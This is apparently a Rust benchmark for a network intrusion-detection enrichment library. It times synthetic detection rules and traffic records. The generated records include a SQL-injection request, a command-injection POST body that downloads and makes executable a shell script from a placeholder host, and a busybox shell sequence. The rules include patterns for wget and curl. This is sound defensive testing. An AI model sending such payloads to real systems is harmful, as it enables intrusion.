//! Measures look-ups and rules: `cargo xtask bench enrich`.
//!
//! The rules are made here, because published ones may not be part of this project. Their shapes, and about their
//! shares, are those of the rules that Emerging Threats publishes: half are on HTTP; a family of thousands looks for SQL in
//! a parameter of one program each; a quarter has names of hosts; a third has a regular expression; the rest is on bytes
//! and fingerprints. Published rules mostly have a text of their own, so names are made of syllables, 3,000 of them; paths
//! and parameters are words that requests share. With 24 names most rules have a text that many records have, too.
//!
//! The records are a mix of what arrives: plain requests, exploits, banners, binary protocols, a long body. Exploits draw
//! from the same words and names as the rules.

use std::fmt::Write as _;
use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::time::{Duration, Instant};

use nix::time::{ClockId, clock_gettime};
use spip_enrich::facts::{Facts, Tls};
use spip_enrich::requests::split;
use spip_enrich::rules::{Builder, Rules, Scratch};
use spip_enrich::{indicators, scanners, starter};

/// As many as the rules that are published for all.
const RULES: u64 = 40_000;
/// Different names of programs and hosts, about as many as published rules have.
const NAMES: u64 = 3000;
/// So few names that most requests have texts of many rules.
const FEW_NAMES: u64 = 24;
/// Time of each measurement.
const TIME: Duration = Duration::from_secs(3);

/// Numbers that are the same in each run (splitmix64).
struct Numbers {
    state: u64,
    /// How many different names of programs and hosts are drawn from.
    names: u64,
}

impl Numbers {
    fn new(state: u64, names: u64) -> Self {
        Self { state, names }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut number = self.state;
        number = (number ^ (number >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        number = (number ^ (number >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        number ^ (number >> 31)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound
    }

    fn of<'t>(&mut self, texts: &[&'t str]) -> &'t str {
        texts[self.below(texts.len() as u64) as usize]
    }

    /// Returns a word of paths and parameters.
    fn word(&mut self) -> String {
        const WORDS: [&str; 24] = [
            "admin", "cgi-bin", "login", "index", "upload", "config", "api", "user", "cmd", "exec", "ping", "setup",
            "view", "page", "data", "file", "query", "system", "shell", "portal", "rest", "module", "action", "report",
        ];
        let word = self.of(&WORDS);
        if self.below(3) == 0 { format!("{word}{}", self.below(1000)) } else { word.to_owned() }
    }

    /// Returns the name of a program or a host.
    fn name(&mut self) -> String {
        const SYLLABLES: [&str; 32] = [
            "ba", "cor", "da", "el", "fin", "ga", "hu", "in", "jo", "ka", "lu", "mar", "net", "or", "pa", "qu", "ri",
            "so", "tec", "ul", "vi", "web", "xa", "yo", "zen", "press", "box", "cam", "link", "soft", "form", "shop",
        ];
        let mut name = Self::new(self.below(self.names), 0);
        (0..2 + name.below(3)).map(|_| name.of(&SYLLABLES)).collect()
    }

    fn host(&mut self) -> String {
        format!("{}.{}", self.name(), self.of(&["com", "top", "xyz", "net", "org", "info", "ru", "cc"]))
    }

    fn bytes(&mut self, count: u64) -> String {
        (0..count).map(|_| format!("{:02x} ", self.below(256))).collect::<String>().trim_end().to_owned()
    }
}

/// Returns protocol and conditions of a rule.
fn conditions(numbers: &mut Numbers) -> (&'static str, String) {
    let (word, other, name) = (numbers.word(), numbers.word(), numbers.name());
    match numbers.below(100) {
        0..=13 => (
            "http",
            format!(
                "content:\"/{name}/{word}.php?\"; nocase; http_uri; content:\"{other}=\"; nocase; http_uri; content:\"{0}\"; nocase; http_uri; pcre:\"/{0}.+{1}/Ui\";",
                numbers.of(&["UNION", "INSERT", "DELETE", "ASCII", "UPDATE"]),
                numbers.of(&["SELECT", "INTO", "FROM", "SET"])
            ),
        ),
        14..=25 => (
            "http",
            format!(
                "http.method; content:\"GET\"; http.uri; content:\"/wp-content/plugins/{name}/{word}\"; nocase; content:\"..%2f\"; distance:0;"
            ),
        ),
        26..=35 => (
            "http",
            format!(
                "http.method; content:\"POST\"; http.uri; content:\"/{word}/{name}\"; startswith; fast_pattern; http.request_body; content:\"{other}=\"; pcre:\"/{other}=[^&]*(?:wget|curl|\\x60)/i\";"
            ),
        ),
        36..=41 => (
            "http",
            format!(
                "http.uri; content:\"/{word}/{other}\"; nocase; pcre:\"/\\/{word}\\/{other}[a-z0-9]{{0,16}}\\.(?:php|asp|jsp)/i\";"
            ),
        ),
        42..=45 => (
            "http",
            format!("http.header; content:\"X-{name}-{word}|3a 20|\"; nocase; content:\"{other}\"; within:64;"),
        ),
        46..=49 => ("http", format!("http.user_agent; content:\"{name}/{}\"; nocase; startswith;", numbers.below(10))),
        50..=54 => ("http", format!("http.host; content:\"{}\"; endswith;", numbers.host())),
        55..=65 => ("tls", format!("tls.sni; content:\".{}\"; endswith; nocase;", numbers.host())),
        66..=76 => ("dns", format!("dns.query; content:\"{}\"; nocase; bsize:<40;", numbers.host())),
        77..=79 => ("tls", format!("ja3.hash; content:\"{:016x}{:016x}\";", numbers.next(), numbers.next())),
        80..=87 => {
            ("tcp", format!("content:\"|{}|\"; depth:16; content:\"{name}\"; distance:4; within:64;", numbers.bytes(4)))
        }
        88..=91 => {
            ("tcp", format!("dsize:>12; content:\"|{}|\"; offset:4; content:!\"|0a|\"; within:100;", numbers.bytes(6)))
        }
        92..=95 => (
            "tcp",
            format!("content:\"{name}|20|{word}\"; nocase; pcre:\"/{name}\\s+{word}\\s*=\\s*[0-9a-f]{{8,}}/i\";"),
        ),
        _ => ("tcp", format!("content:\"|{}|{word}|00|\"; content:\"|ff|{other}\"; distance:0;", numbers.bytes(2))),
    }
}

fn rules_text(names: u64) -> String {
    let mut numbers = Numbers::new(7, names);
    let mut text = String::new();
    for sid in 1..=RULES {
        let (protocol, conditions) = conditions(&mut numbers);
        let _ = writeln!(
            text,
            "alert {protocol} $EXTERNAL_NET any -> $HOME_NET any (msg:\"made {sid}\"; flow:established,to_server; {conditions} classtype:web-application-attack; sid:{sid}; rev:1;)"
        );
    }
    text
}

fn payloads(names: u64) -> Vec<Vec<u8>> {
    let mut numbers = Numbers::new(11, names);
    let mut payloads: Vec<Vec<u8>> = Vec::new();
    let agents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
        "curl/8.5.0",
        "Mozilla/5.0 zgrab/0.x",
        "Go-http-client/1.1",
    ];
    for turn in 0..400usize {
        let agent = agents[turn % agents.len()];
        payloads.push(match turn % 10 {
            0..=3 => format!("GET / HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: {agent}\r\nAccept: */*\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n").into_bytes(),
            4 => {
                let (name, word, other) = (numbers.name(), numbers.word(), numbers.word());
                format!("GET /{name}/{word}.php?{other}=-1%27%20UNION%20ALL%20SELECT%201,2,3 HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: {agent}\r\n\r\n").into_bytes()
            }
            5 => {
                let (first, second, third) = (numbers.word(), numbers.word(), numbers.word());
                format!("POST /{first}/{second}.php?id={turn} HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: {agent}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60\r\n\r\n{third}=;cd+/tmp;wget+http://192.0.2.9/a.sh;chmod+777+a.sh").into_bytes()
            }
            6 => b"SSH-2.0-Go\r\n".iter().copied().chain((0..600).map(|_| numbers.next() as u8)).collect(),
            7 => (0..200).map(|_| numbers.next() as u8).collect(),
            8 => b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n".to_vec(),
            _ => {
                let body: String = (0..400).map(|_| numbers.word() + "=1&").collect();
                format!("POST /api/v1/{} HTTP/1.1\r\nHost: a.example\r\nUser-Agent: {agent}\r\nContent-Length: {}\r\n\r\n{body}", numbers.word(), body.len()).into_bytes()
            }
        });
    }
    payloads
}

fn measure(name: &str, mut once: impl FnMut(usize)) -> f64 {
    // Processor time: what other programs do meanwhile changes nothing.
    let clock = || Duration::from(clock_gettime(ClockId::CLOCK_THREAD_CPUTIME_ID).expect("a clock of the thread"));
    let (started, mut count) = (clock(), 0usize);
    while clock() - started < TIME {
        for _ in 0..100 {
            once(count);
            count += 1;
        }
    }
    let nanoseconds = (clock() - started).as_nanos() as f64 / count as f64;
    println!("{name:<44} {nanoseconds:>12.0} ns  {:>12.0} /s", 1e9 / nanoseconds);
    nanoseconds
}

fn rules(name: &str, rules: &Rules, payloads: &[Vec<u8>], names: u64) {
    let mut scratch = Scratch::default();
    let mut numbers = Numbers::new(13, names);
    let hosts: Vec<String> = (0..payloads.len()).map(|_| numbers.host()).collect();
    let mut record = |turn: usize| {
        let turn = turn % payloads.len();
        let tls = Tls { server_name: hosts.get(turn).map(String::as_str), ..Tls::default() };
        let facts = Facts { payload: &payloads[turn], tls: turn.is_multiple_of(3).then_some(tls), ..Facts::default() };
        rules.find(&facts, &split(facts.payload), &mut scratch)
    };
    let found: Vec<_> = (0..payloads.len()).map(&mut record).collect();
    measure(name, |turn| {
        black_box(record(turn));
    });
    println!(
        "    in one turn of the records: {} tags, {} records not searched to the end",
        found.iter().map(|found| found.tags.len()).sum::<usize>(),
        found.iter().filter(|found| found.incomplete).count()
    );
}

/// Measures 40,000 rules with that many different names.
fn many(names: u64) {
    let text = rules_text(names);
    let started = Instant::now();
    let mut builder = Builder::default();
    builder.text(starter::NAME, starter::RULES).expect("rules");
    builder.text("made", &text).expect("rules");
    let (many, report) = builder.build().expect("a set");
    let built = started.elapsed();
    rules(&format!("{} rules, {names} names", report.taken), &many, &payloads(names), names);
    println!(
        "    built in {:.2} s; automata {} MB; {} rules skipped",
        built.as_secs_f64(),
        many.memory() / 1_000_000,
        report.skipped_count()
    );
}

fn main() {
    let payloads = payloads(NAMES);
    let mean = payloads.iter().map(Vec::len).sum::<usize>() / payloads.len();
    println!("{} different records of {mean} bytes on average, one core\n", payloads.len());

    let mut builder = scanners::Builder::default();
    let list: String =
        (0..50_000u32).map(|n| format!("p{}, {}/28\n", n % 40, Ipv4Addr::from(0x0b00_0000 + n * 64))).collect();
    builder.text(Path::new("list"), &list).expect("ranges");
    let scanners = builder.build();
    let mut numbers = Numbers::new(3, NAMES);
    let addresses: Vec<IpAddr> =
        (0..4096).map(|_| Ipv4Addr::from(0x0b00_0000 + numbers.below(3_200_000) as u32).into()).collect();
    measure("scanner among 50,000 ranges", |turn| {
        black_box(scanners.listed(addresses[turn % addresses.len()]));
    });
    measure("indicators", |turn| {
        black_box(indicators::find(&payloads[turn % payloads.len()], false));
    });

    let mut builder = Builder::default();
    builder.text(starter::NAME, starter::RULES).expect("rules");
    let (own, report) = builder.build().expect("a set");
    rules(&format!("starter rules ({})", report.taken), &own, &payloads, NAMES);
    many(NAMES);
    many(FEW_NAMES);
    println!(
        "\nmemory: {}",
        std::fs::read_to_string("/proc/self/status")
            .unwrap_or_default()
            .lines()
            .find(|line| line.starts_with("VmHWM"))
            .unwrap_or_default()
    );
}
